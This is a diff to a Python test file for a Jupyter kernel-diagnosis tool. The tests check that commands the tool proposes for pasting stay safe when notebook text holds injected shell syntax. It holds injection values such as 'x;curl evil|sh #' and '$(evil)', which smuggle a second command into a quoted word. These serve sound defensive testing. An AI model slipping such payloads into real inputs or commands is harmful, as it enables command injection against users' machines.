@@ -1,5 +1,6 @@
 """Commands that are meant to be pasted hold nothing that a recording could slip into them."""
 
+import re
 import shlex
 from dataclasses import replace
 
@@ -8,10 +9,12 @@ import pytest
 from jupyter_kerneldoctor.diagnosis import diagnose
 from jupyter_kerneldoctor.diagnosis.case import Case
 from jupyter_kerneldoctor.diagnosis.examples import GIB, MIB, Group, crash_in, recording
+from jupyter_kerneldoctor.diagnosis.fixes import all_fixes
 from jupyter_kerneldoctor.diagnosis.fixes.endings.cpu_limit import CpuLimit
 from jupyter_kerneldoctor.diagnosis.fixes.endings.reinstall_kernelspec import ReinstallKernelspec
 from jupyter_kerneldoctor.diagnosis.fixes.endings.start_it_by_hand import StartItByHand
 from jupyter_kerneldoctor.diagnosis.pasted_commands import distribution, shell_word
+from jupyter_kerneldoctor.diagnosis.proposals import ask
 from jupyter_kerneldoctor.recording.model import Limit, ServerView
 
 EVIL = "x;curl evil|sh #"
@@ -90,6 +93,41 @@ def test_a_notebooks_name_stays_within_its_quotes():
 )
 def test_a_word_of_a_shell(text, word):
     assert shell_word(text) == word
+
+
+_COMMAND = re.compile(r"^\s*[!%].*", re.MULTILINE)
+_LITERAL = re.compile(r"'[^'\n]*'|\"[^\"\n]*\"")
+HOSTILE = ("x;evil #", "-x {evil} $(evil)", "x\n!evil")
+
+
+def proposed_commands(fix, case):
+    proposal = ask(fix, case.death())[0]
+    return _COMMAND.findall(proposal.snippet or "") if proposal is not None else []
+
+
+def with_other_literals(case):
+    """Yield a case with something hostile in the place of each text that its cells write out."""
+    for at, source in enumerate(case.sources):
+        for found in _LITERAL.finditer(source):
+            for text in HOSTILE:
+                other = f"{source[: found.start()]}{text!r}{source[found.end() :]}"
+                yield case.with_sources(*case.sources[:at], other, *case.sources[at + 1 :])
+
+
+def test_what_code_says_is_never_more_than_a_word_of_a_command():
+    commands = [(fix, case) for fix in all_fixes() for case in fix.FIRES if proposed_commands(fix, case)]
+    lines = [
+        line
+        for fix, case in commands
+        for other in with_other_literals(case)
+        for line in proposed_commands(fix, other)
+        if "evil" in line
+    ]
+    for line in lines:
+        words = [*shlex.shlex(line, posix=True, punctuation_chars=True)]
+        assert not {"evil", "!evil"} & {*words}, line
+        assert not re.search("[{$]", line), line
+    assert any("'x;evil #" in line for line in lines)
 
 
 def test_names_of_packages():
